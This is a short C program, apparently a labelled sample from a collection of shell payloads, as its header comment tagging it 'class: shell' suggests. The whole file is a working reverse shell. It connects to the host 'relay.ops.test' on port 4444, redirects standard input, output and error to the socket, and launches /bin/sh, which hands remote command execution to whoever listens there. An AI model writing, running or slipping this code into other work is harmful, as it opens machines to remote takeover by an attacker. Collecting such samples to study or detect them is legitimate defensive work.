// class: shell; possible: low medium; style: C, dup2 and execve
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    struct addrinfo *a, hint = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
    if (getaddrinfo("relay.ops.test", "4444", &hint, &a))
        return 1;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, a->ai_addr, a->ai_addrlen))
        return 1;
    for (int i = 0; i < 3; i++)
        dup2(s, i);
    char *argv[] = { "sh", NULL };
    execv("/bin/sh", argv);
    return 1;
}
